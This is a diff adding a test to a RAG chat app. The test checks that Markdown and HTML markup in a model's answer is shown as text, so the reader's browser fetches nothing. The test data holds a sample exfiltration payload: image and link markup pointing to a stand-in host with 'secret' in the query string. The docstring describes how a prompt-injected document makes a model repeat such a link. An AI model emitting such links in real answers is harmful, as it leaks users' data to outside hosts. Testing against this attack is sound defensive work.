@@ -191,3 +191,33 @@ def test_groundedness_is_not_fooled_by_repetition():
     assert rag.groundedness(right, ps, emb) == 1.0
     assert rag.groundedness((right + " ") * 4, ps, emb) == 0.25  # a repeat supports nothing new
     assert rag.groundedness(right + " Paris is the capital of France.", ps, emb) == 0.5
+
+
+def test_chat_shows_the_answer_as_text(tmp_path, browser):
+    "An answer that carries Markdown or HTML (an image pointing elsewhere: what a prompt-injected document makes a model repeat) reaches the chat page as text: the reader's browser fetches nothing."
+    import socket
+    from gradio_client import Client
+    from playwright.sync_api import sync_playwright
+    from llmops_nb import chat as C
+    leak = "http://leak.invalid/x.png?q=secret"
+    answer = f"The warranty is 10 years ![]({leak}) [details]({leak}) <img src='{leak}'>"
+    bot = lambda q: {"answer": answer, "sources": [], "cited": [], "latency_ms": 1.0, "top_similarity": None, "note": ""}
+    with socket.socket() as s: s.bind(("127.0.0.1", 0)); port = s.getsockname()[1]
+    app = C.serve(bot, "127.0.0.1", port, db=tmp_path/"fb.db", block=False)
+    try:
+        shown = Client(f"http://127.0.0.1:{port}/", verbose=False).predict("How long is the warranty?", api_name="/ask")[0]
+        assert "![](" not in shown and "](" not in shown and "<img" not in shown, shown  # escaped Markdown and HTML
+        with sync_playwright() as pw:
+            b = pw.chromium.launch(executable_path=browser, headless=True, args=["--no-sandbox"])
+            page, asked = b.new_page(), []
+            page.on("request", lambda r: asked.append(r.url))
+            page.goto(f"http://127.0.0.1:{port}/")
+            page.locator("#question textarea").fill("How long is the warranty?")
+            page.locator("#ask").click()
+            page.locator("#status").get_by_text("Answered").wait_for(timeout=60_000)
+            text = page.locator("#answer").inner_text()
+            assert "The warranty is 10 years" in text and "![](" in text, text  # the answer, its markup as characters
+            assert page.evaluate("document.querySelectorAll('#answer img').length") == 0  # (a bare URL in text still becomes a link: Gradio's autolinks)
+            assert not [u for u in asked if "leak.invalid" in u], asked
+            b.close()
+    finally: app.close()
